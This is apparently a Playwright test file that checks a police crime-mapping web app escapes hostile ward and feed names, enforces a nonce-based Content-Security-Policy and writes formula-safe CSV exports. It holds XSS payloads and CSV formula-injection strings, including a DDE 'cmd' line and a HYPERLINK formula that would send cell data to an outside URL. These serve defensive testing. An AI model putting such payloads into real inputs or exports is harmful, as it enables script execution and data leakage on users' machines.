"""Names from a boundary file and a council feed, written to attack the analyst's browser, stay text in real
headless Chromium: every tooltip of every layer, the panels and the layer control show them as text and nothing they
carry runs. Every page (sign-in, map, sources) runs under a Content-Security-Policy that allows only the page's own
nonced scripts, with no violation and no console error; a script injected past the escaping would not run either.
CSV exports of the same names are formula-safe."""

from __future__ import annotations

import csv
import gzip
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import shapely
from playwright.sync_api import Browser, Page

from api.access.principals import Role
from api.access.store import AccessStore
from api.settings import Settings
from ingest.boundary_sets import load_boundary_set
from ingest.pipeline import IngestOptions, run
from ingest.registry import resolve_feed
from tests.api.render.browser import VIEWPORT, Watched, needs_chromium, serving
from tests.conftest import PROJECT_DATA, load_police, new_store, police_file

pytestmark = [needs_chromium, pytest.mark.browser]

PAYLOADS = (
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=1</script>",
    '"><svg onload=window.__pwned=1>',
    "javascript:window.__pwned=1",
    "{{7*7}}",
)
FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")
SET_NAME = "<script>window.__pwned=1</script> wards"
WARDS = PROJECT_DATA / "wards" / "wards2024_approx_from_lsoa21_cleveland.geojson.gz"
# Each feed category label (hostile) and the category it stands for.
CATEGORIES = ("noise", "graffiti", "fly-tipping", "littering", "begging-vagrancy")
LABELS = dict(zip((*PAYLOADS, *FORMULAS), CATEGORIES * 2, strict=False))
# Hover every feature of every layer on the map in turn (the mouseover Leaflet's tooltips listen for) and read what
# each tooltip shows: its text, and the tags it holds.
HOVER_EVERY_FEATURE = """() => {
  const shown = [];
  for (const [name, group] of Object.entries(window)) {
    if (!name.startsWith("geo_json_") || !group || !group._map || !group.getTooltip || !group.getTooltip()) continue;
    group.eachLayer((feature) => {
      feature.fire("mouseover", {latlng: feature.getBounds().getCenter()}, true);
      const tip = group.getTooltip().getElement();
      shown.push({
        layer: name,
        rows: Object.fromEntries([...tip.querySelectorAll("tr")].map((tr) => [...tr.cells].map((c) => c.textContent))),
        tags: [...new Set([...tip.querySelectorAll("*")].map((e) => e.tagName.toLowerCase()))],
      });
      feature.fire("mouseout", {}, true);
    });
  }
  return shown;
}"""
# What the page made of itself after its scripts ran: anything a name could have smuggled in.
INJECTED = """() => ({
  pwned: window.__pwned,
  handlers: document.querySelectorAll("[onerror], [onload], [onclick], [onmouseover]").length,
  scripts: [...document.scripts].filter((s) => !s.nonce).length,
  images: document.querySelectorAll(".leaflet-tooltip img, .aim-panel img, .leaflet-control-layers img").length,
})"""


def _hostile_wards(folder: Path) -> Path:
    """The Cleveland ward boundaries with every ward and authority named by a payload (a file a user could load)."""
    collection = json.loads(gzip.decompress(WARDS.read_bytes()))
    lads = sorted({f["properties"]["LAD24CD"] for f in collection["features"]})
    for i, feature in enumerate(collection["features"]):
        props = feature["properties"]
        props["WD24NM"] = PAYLOADS[i % len(PAYLOADS)]
        props["LAD24NM"] = PAYLOADS[(lads.index(props["LAD24CD"]) + 1) % len(PAYLOADS)]
    path = folder / "hostile-wards.geojson"
    path.write_text(json.dumps(collection))
    return path


def _hostile_feed(folder: Path, wards: Path) -> tuple[Path, Path]:
    """A council patrol feed (profile and export) whose category labels, places, officers and outcomes are payloads
    and formulas, located at points inside the wards."""
    shapes = [shapely.geometry.shape(f["geometry"]) for f in json.loads(wards.read_text())["features"]]
    points = [s.representative_point() for s in shapes]
    labels = "\n".join(f"{json.dumps(label)} = {json.dumps(category)}" for label, category in LABELS.items())
    profile = folder / "patrol.toml"
    profile.write_text(
        'name = "hostile-patrol"\nsource = "patrol"\n[file]\nformat = "csv"\n'
        '[columns]\nreference = "Ref"\noccurred = "Date"\ncategory = "Type"\nlongitude = "Lon"\nlatitude = "Lat"\n'
        'location_text = "Place"\noutcome = "Result"\nreported_by = "Officer"\n'
        '[dates]\nformats = ["%Y-%m-%d"]\n[location]\norder = ["lonlat"]\n'
        f"[categories]\n{labels}\n"
    )
    texts = [*PAYLOADS, *FORMULAS]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["Ref", "Date", "Type", "Lon", "Lat", "Place", "Result", "Officer"])
    for i in range(120):
        text, point = texts[i % len(texts)], points[i % len(points)]
        writer.writerow([f"P{i}", f"2025-06-{1 + i % 28:02d}", text, point.x, point.y, text, text, text])
    export = folder / "patrol.csv"
    export.write_text(buffer.getvalue())
    return profile, export


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A store with June's real Cleveland police.uk file, the hostile wards as its default boundary set and the
    hostile patrol feed; and an analyst's token."""
    folder = tmp_path_factory.mktemp("hostile")
    con = new_store(folder / "aim.duckdb")
    load_police(con, police_file("cleveland", "06"))
    wards = _hostile_wards(folder)
    load_boundary_set(con, SET_NAME, [wards], "WD24CD", "WD24NM", "LAD24CD", "LAD24NM", make_default=True)
    profile, export = _hostile_feed(folder, wards)
    report = run(resolve_feed(profile), export, con, IngestOptions())
    assert report.loaded == 120, report
    con.close()
    token = AccessStore(Settings(store=folder / "aim.duckdb").tasking_url()).create_token("Sam", Role.ANALYST)
    return folder / "aim.duckdb", token


@pytest.fixture(scope="module")
def server(hostile_store: tuple[Path, str]) -> Iterator[str]:
    with serving(hostile_store[0]) as url:
        yield url


@pytest.fixture(scope="module")
def analyst(browser: Browser, server: str, hostile_store: tuple[Path, str]) -> Iterator[Watched]:
    watched = Watched(browser, server, hostile_store[1])
    yield watched
    watched.context.close()


def _show_every_layer(page: Page) -> None:
    """Tick every overlay in the layer control, as the analyst would."""
    boxes = page.locator(".leaflet-control-layers-overlays input[type=checkbox]")
    for i in range(boxes.count()):
        if not boxes.nth(i).is_checked():
            boxes.nth(i).check()


def _hover_real_features(page: Page, count: int = 12) -> list[str]:
    """Move the mouse over features as a person would; the tooltip texts that showed."""
    paths = page.locator("path.leaflet-interactive")
    step = max(1, paths.count() // count)
    shown = []
    for i in range(0, paths.count(), step):
        box = paths.nth(i).bounding_box()
        if box and 0 < box["x"] < VIEWPORT["width"] and 0 < box["y"] < VIEWPORT["height"]:
            page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
            shown += page.locator(".leaflet-tooltip").all_inner_texts()
    return shown


def _assert_every_tooltip_shows_text(page: Page) -> None:
    """Every feature's tooltip holds only its table, and shows the names exactly as the files wrote them."""
    tooltips = page.evaluate(HOVER_EVERY_FEATURE)
    assert {tag for t in tooltips for tag in t["tags"]} <= {"div", "table", "tbody", "tr", "th", "td"}
    by_layer: dict[str, list[dict[str, str]]] = {}
    for t in tooltips:
        by_layer.setdefault(next(iter(t["rows"]), ""), []).append(t["rows"])
    # wards, hexagons, the statistics layers (the place statistics' too): each tooltip leads with words
    leading = {"Ward", "Incidents here", "Hot or cold spot", "Emerging hotspot", "Patrol plan"}
    assert set(by_layer) == leading | {"Incidents", "Repeat place", "Elevated risk"}  # near-repeats: the dated feeds
    wards = by_layer["Ward"]
    assert {w["Ward"] for w in wards} == set(PAYLOADS) and {w["Authority"] for w in wards} <= set(PAYLOADS)
    for layer in ("Hot or cold spot", "Emerging hotspot", "Patrol plan"):  # a statistics cell names its ward
        assert {cell["Ward"] for cell in by_layer[layer]} <= set(PAYLOADS), layer
        assert all(cell["Streets"] for cell in by_layer[layer]), layer  # and its streets
    named = {part for layer in by_layer.values() for cell in layer for part in cell.get("Streets", "").split(", ")}
    assert named & set(PAYLOADS), "the feed's places are not shown as text"  # the patrol feed's places, as written


def test_signing_in_runs_under_the_policy(analyst: Watched) -> None:
    assert analyst.page.url.rstrip("/") == analyst.server  # signed in: back on the map
    assert not analyst.violations and not analyst.errors


def test_every_tooltip_panel_and_label_shows_hostile_names_as_text(analyst: Watched) -> None:
    page = analyst.page
    analyst.open("/")
    assert page.locator("path.leaflet-interactive").count() > 100  # the page's scripts ran: the layers are drawn
    overlays = page.locator(".leaflet-control-layers-overlays label").all_inner_texts()
    assert any("Gi* hot and cold spots" in o for o in overlays) and any("Hexagons: patrol only" in o for o in overlays)
    _show_every_layer(page)
    hovered = _hover_real_features(page, 60)
    assert hovered and any(name in text for text in hovered for name in PAYLOADS)
    _assert_every_tooltip_shows_text(page)
    assert SET_NAME in page.locator("select[name=wards] option").all_inner_texts()
    assert page.evaluate(INJECTED) == {"pwned": None, "handlers": 0, "scripts": 0, "images": 0}
    page.wait_for_timeout(300)
    analyst.collect()
    assert not analyst.violations, analyst.violations
    assert not analyst.errors, analyst.errors


# Click the i-th ward as a person would (the click Leaflet's ward layer listens for); the page's script asks the API
# for its trend and draws it beside the map.
CLICK_WARD = """(i) => {
  const wards = window[document.getElementById("aim-side").dataset.wards];
  const ward = wards.getLayers()[i];
  ward.fire("click", {latlng: ward.getBounds().getCenter()}, true);
}"""
TREND_SHOWN = """() => {
  const panel = document.getElementById("aim-trend");
  const heading = panel.querySelector("h3");
  return {
    name: heading ? heading.firstChild.textContent : null,
    authority: [...panel.querySelectorAll("button")].map((b) => b.textContent).find((t) => t.startsWith("Whole")),
    tags: [...new Set([...panel.querySelectorAll("*")].map((e) => e.tagName.toLowerCase()))],
  };
}"""


def test_the_trend_panel_shows_hostile_ward_names_as_text(analyst: Watched) -> None:
    """A ward's trend, drawn by the page's own script from the API's answer, names the ward and its authority as
    text: nothing a name carries becomes markup or runs."""
    page = analyst.page
    analyst.open("/")
    shown = []
    for i in range(8):
        page.evaluate(CLICK_WARD, i)
        page.wait_for_selector("#aim-trend[data-state=drawn]")
        shown.append(page.evaluate(TREND_SHOWN))
    assert {s["name"] for s in shown} <= set(PAYLOADS) and len({s["name"] for s in shown}) >= 3
    assert all(s["authority"].removeprefix("Whole authority: ") in PAYLOADS for s in shown)
    tags = {tag for s in shown for tag in s["tags"]}
    assert tags <= {
        "h2",
        "h3",
        "small",
        "div",
        "svg",
        "line",
        "text",
        "path",
        "circle",
        "rect",
        "title",
        "ul",
        "li",
        "a",
        "button",
        # the chart's values as a table (under a details element), drawn by the same script
        *("details", "summary", "table", "caption", "thead", "tbody", "tr", "th", "td"),
    }, tags
    assert page.evaluate(INJECTED) == {"pwned": None, "handlers": 0, "scripts": 0, "images": 0}
    analyst.assert_clean()


def test_the_sources_page_and_the_printed_plan_work_under_the_policy(analyst: Watched) -> None:
    page = analyst.page
    analyst.open("/")
    plan = page.locator("a", has_text="Print the patrol plan (PDF)").get_attribute("href")
    assert plan and plan.startswith("/api/v1/patrol-plan?")
    printed = page.request.get(f"{analyst.server}{plan}")
    assert printed.status == 200 and printed.body().startswith(b"%PDF")
    analyst.open("/sources")
    assert page.locator("#feed-hostile-patrol").count() == 1  # the feed's section
    analyst.collect()
    assert not analyst.violations and not analyst.errors, (analyst.violations, analyst.errors)


def test_escaping_alone_keeps_the_names_inert(browser: Browser, server: str, hostile_store: tuple[Path, str]) -> None:
    """With the policy switched off in the browser, the names still only show as text."""
    watched = Watched(browser, server, hostile_store[1], bypass_csp=True)
    try:
        watched.open("/")
        _show_every_layer(watched.page)
        _hover_real_features(watched.page)
        _assert_every_tooltip_shows_text(watched.page)
        assert watched.page.evaluate(INJECTED)["pwned"] is None
    finally:
        watched.context.close()


# Markup as a name would carry it had it got past the escaping: an inline handler, and a script without the nonce.
INJECT = """() => {
  document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.__byHandler = 1">');
  const script = document.createElement("script");
  script.textContent = "window.__byScript = 1";
  document.body.append(script);
}"""


@pytest.mark.parametrize("bypass_csp", [False, True])
def test_the_policy_stops_a_script_that_got_past_the_escaping(
    browser: Browser, server: str, hostile_store: tuple[Path, str], bypass_csp: bool
) -> None:
    """Markup injected into the map page (an inline handler, a script tag without the nonce) does not run under the
    policy; without it (the control) the same injection runs."""
    watched = Watched(browser, server, hostile_store[1], bypass_csp=bypass_csp)
    try:
        watched.open("/")
        watched.page.evaluate(INJECT)
        watched.page.wait_for_timeout(300)
        ran = watched.page.evaluate("[window.__byHandler, window.__byScript]")
        watched.collect()
        if bypass_csp:
            assert ran == [1, 1]
        else:
            assert ran == [None, None]
            assert {v["directive"] for v in watched.violations} == {"script-src-attr", "script-src-elem"}
    finally:
        watched.context.close()


def test_csv_exports_of_hostile_names_are_formula_safe(analyst: Watched) -> None:
    answer = analyst.page.request.get(
        f"{analyst.server}/api/v1/incidents?format=csv&source=patrol&from=2025-06&to=2025-06&category=all&limit=1000"
    )
    assert answer.status == 200 and answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(answer.text())))
    assert len(rows) == 120
    for row in rows:
        for column in ("source_category", "location_text", "outcome", "reported_by"):
            written = row[column]
            original = written[1:] if written.startswith("'") else written
            assert original in LABELS, (column, written)
            assert written == ("'" + original if original.startswith(("=", "+", "-", "@")) else original)
    assert {row["location_text"] for row in rows} >= {"'" + f for f in FORMULAS} | set(PAYLOADS)
